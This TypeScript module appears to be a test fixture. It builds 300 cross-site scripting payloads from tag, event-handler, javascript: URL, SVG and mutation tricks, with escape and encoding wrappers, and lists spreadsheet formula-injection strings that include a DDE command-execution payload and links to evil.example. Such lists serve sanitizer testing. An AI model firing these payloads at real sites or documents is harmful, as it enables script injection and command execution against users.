/** Ways of writing a script where a text is expected. `hit()` is what each of them would run. */
const bodies: readonly string[] = [
  "<script>hit()</script>",
  "<script src=/hit.js></script>",
  "<script>\nhit()\n//",
  "<img src=x onerror=hit()>",
  "<img src=x: onerror\n=hit()>",
  "<svg onload=hit()>",
  "<svg><script>hit()</script></svg>",
  "<svg><animate onbegin=hit() attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:hit()><text y=9>x</text></a></svg>",
  "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
  "<iframe src=javascript:parent.hit()></iframe>",
  "<object data=javascript:hit()></object>",
  "<embed src=javascript:hit()>",
  "<a href=javascript:hit() autofocus onfocus=hit()>x</a>",
  "[x](javascript:hit())",
  "![x](javascript:hit())",
  "javascript:hit()",
  "<details open ontoggle=hit()>",
  "<input autofocus onfocus=hit()>",
  "<select autofocus onfocus=hit()></select>",
  "<video><source onerror=hit()></video>",
  "<audio src=x onerror=hit()></audio>",
  "<body onload=hit()>",
  "<marquee onstart=hit()>x</marquee>",
  "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
  "<base href=//evil.example/>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css';*{background:url(//evil.example/x)}</style>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hit()&gt;'>",
  "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
];

/** What a body is put in, to get out of where it is put. */
const wrappings: readonly ((body: string) => string)[] = [
  (body) => body,
  (body) => `">${body}`,
  (body) => `'>${body}`,
  (body) => `</textarea></title></style></script>${body}`,
  (body) => body.replaceAll(/[a-z]+(?==|>|\s)/g, (name) => name.toUpperCase()),
  (body) => body.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (body) => body.replaceAll("<", "\\u003c"),
  (body) => encodeURIComponent(body),
  (body) => `{{constructor.constructor('hit()')()}}\${hit()}${body}`,
  (body) => `<!--${body.replace("<", "<\u200b")}-->${body}`,
];

/** Three hundred payloads. */
export const scriptPayloads: readonly string[] = bodies.flatMap((body) => wrappings.map((wrap) => wrap(body)));

/** What a spreadsheet would take for a formula. */
export const formulaPayloads: readonly string[] = [
  '=HYPERLINK("http://evil.example","x")',
  "=1+1",
  "+1+1",
  "-2+3",
  "@SUM(1,2)",
  "\t=1+1",
  "\r=1+1",
  "=cmd|' /C calc'!A0",
];
